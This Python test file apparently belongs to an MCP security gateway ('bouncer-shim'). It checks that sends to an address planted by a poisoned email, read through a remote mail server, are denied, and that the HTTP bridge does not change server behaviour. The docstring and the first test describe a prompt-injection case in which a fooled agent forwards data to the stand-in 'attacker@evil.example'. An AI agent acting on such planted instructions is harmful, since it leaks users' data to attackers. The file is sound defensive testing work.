"""Remote MCP servers behind the same gate: ``bouncer-shim --url`` bridges stdio to HTTP.

The attack: the agent reads a poisoned mail through a *remote* mail server (streamable HTTP) and,
fooled, sends to the address it planted, through the same remote server or through a local stdio
server of the same client. Without the bridge a remote server meets no gate at all. Through it, the
remote output is observed before the client sees it and the later sends are denied, with the
delivery files showing nothing arrived; a destination nobody planted is the control.

Transparency: the reference `server-everything` (npm, pinned in tests/npm/package.json) in its
streamable HTTP and SSE modes is driven by the real `mcp` client directly over HTTP and through the
shim and the bridge at once, and what the client sees must be the same: the tools, results,
server-sent sampling and elicitation requests, progress notifications.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import TYPE_CHECKING, Any

import anyio
import pytest
from harness import (
    Probe,
    audit_records,
    blocked_text,
    connect,
    fixture_server,
    normalise,
    shim_params,
)
from remotes import EVERYTHING, bridge_params, direct_transport, everything_remote, fixture_remote

if TYPE_CHECKING:
    from daemons import RunningDaemon

pytestmark = pytest.mark.e2e

ATTACKER = "attacker@evil.example"
STRANGER = "dana@corp.example"  # never appears in any output: the control destination
# Bounds a test body: a fixture server, a shim and its bridge start in a few seconds on a busy machine.
TEST_TIMEOUT = 90


def deliveries(path: Path) -> list[dict[str, Any]]:
    try:
        data: list[dict[str, Any]] = json.loads(path.read_text(encoding="utf-8"))
    except FileNotFoundError:
        return []
    return data


def first_verdict(home: Path, tool: str, key: str, value: str) -> dict[str, Any]:
    found = [
        r
        for r in audit_records(home)
        if r.get("tool") == tool and (r.get("arguments") or {}).get(key) == value
    ]
    assert found, f"no audit record of {tool} with {key}={value}"
    return found[0]


@pytest.mark.asyncio
@pytest.mark.parametrize("mode", ["legacy", "auto"])
async def test_address_planted_by_a_remote_mail_server_is_denied_remote_and_local(
    mode: str, daemon: RunningDaemon, tmp_path: Path
) -> None:
    mail_outbox = tmp_path / "remote-mail-outbox.json"
    chat_outbox = tmp_path / "chat-outbox.json"
    chat = fixture_server("chat", env={"FIXTURE_OUTBOX": str(chat_outbox)})
    with (
        anyio.fail_after(TEST_TIMEOUT),
        fixture_remote("mail", env={"FIXTURE_OUTBOX": str(mail_outbox)}) as url,
    ):
        async with (
            connect(bridge_params("rmail", url, daemon.home), mode, kind="shim") as mail,
            connect(shim_params(chat, daemon.home), mode, kind="shim") as chat_probe,
        ):
            await chat_probe.client.list_tools()
            inbox = normalise(await mail.client.call_tool("read_inbox", {}))
            assert ATTACKER in inbox["content"][0]["text"]
            remote_send = await mail.client.call_tool(
                "send_email", {"to": ATTACKER, "subject": "fwd", "body": "all"}
            )
            local_send = await chat_probe.client.call_tool(
                "send_dm", {"user": ATTACKER, "text": "Q3 numbers"}
            )
            control = await mail.client.call_tool(
                "send_email", {"to": STRANGER, "subject": "hi", "body": "x"}
            )

    for result in (remote_send, local_send):
        assert result.is_error is True, normalise(result)
        reason = blocked_text(result)
        assert reason is not None and ATTACKER in reason and "rmail" in reason, normalise(result)
    remote_verdict = first_verdict(daemon.home, "send_email", "to", ATTACKER)
    local_verdict = first_verdict(daemon.home, "send_dm", "user", ATTACKER)
    assert (remote_verdict["verdict"], remote_verdict["server"]) == ("deny", "rmail")
    assert (local_verdict["verdict"], local_verdict["server"]) == ("deny", "chat")
    assert "taint" in remote_verdict["rule"] and "taint" in local_verdict["rule"]
    # The control was judged on its own merits, not as planted.
    assert "taint" not in first_verdict(daemon.home, "send_email", "to", STRANGER)["rule"]
    assert blocked_text(control) is None or ATTACKER not in (blocked_text(control) or "")
    assert [d for d in deliveries(mail_outbox) if d["to"] == ATTACKER] == []
    assert deliveries(chat_outbox) == []
    # The remote output was recorded: its tools were pinned under the URL, and the read was audited.
    assert any(
        r.get("server") == "rmail" and r.get("tool") == "read_inbox" for r in audit_records(daemon.home)
    )


async def everything_scenario(probe: Probe) -> dict[str, Any]:
    client = probe.client
    tools = sorted(t.name for t in (await client.list_tools()).tools)
    echo = normalise(await client.call_tool("echo", {"message": "hello over http"}))
    total = normalise(await client.call_tool("get-sum", {"a": 2, "b": 40}))
    progress: list[float] = []

    async def on_progress(value: float, total: float | None, message: str | None) -> None:
        progress.append(value)

    long = normalise(
        await client.call_tool(
            "trigger-long-running-operation", {"duration": 0.3, "steps": 3}, progress_callback=on_progress
        )
    )
    sampled = normalise(await client.call_tool("trigger-sampling-request", {"prompt": "hi", "maxTokens": 5}))
    elicited = normalise(await client.call_tool("trigger-elicitation-request", {}))
    return {
        "tools": tools,
        "echo": echo,
        "sum": total,
        "long": long,
        "progress": progress,
        "sampled": sampled,
        "sampling_requests": probe.sampling_requests,
        "elicited": elicited,
        "elicitation_requests": probe.elicitation_requests,
    }


@pytest.mark.asyncio
@pytest.mark.npm
@pytest.mark.skipif(
    not EVERYTHING.exists(), reason="server-everything not installed; run scripts/setup --with-npm"
)
@pytest.mark.parametrize("transport", ["streamable-http", "sse"])
async def test_bridge_does_not_alter_everything_over_http(transport: str, daemon: RunningDaemon) -> None:
    with anyio.fail_after(TEST_TIMEOUT):
        with everything_remote(transport) as url:
            async with connect(direct_transport(url, transport), "legacy") as probe:
                direct = await everything_scenario(probe)
        with everything_remote(transport) as url:
            async with connect(
                bridge_params("everything", url, daemon.home, transport=transport), "legacy", kind="shim"
            ) as probe:
                bridged = await everything_scenario(probe)
    assert "echo" in direct["tools"] and direct["progress"], direct
    assert direct["sampling_requests"] and direct["elicitation_requests"], direct
    assert bridged == direct
    assert any(
        r.get("server") == "everything" and r.get("tool") == "echo" for r in audit_records(daemon.home)
    )
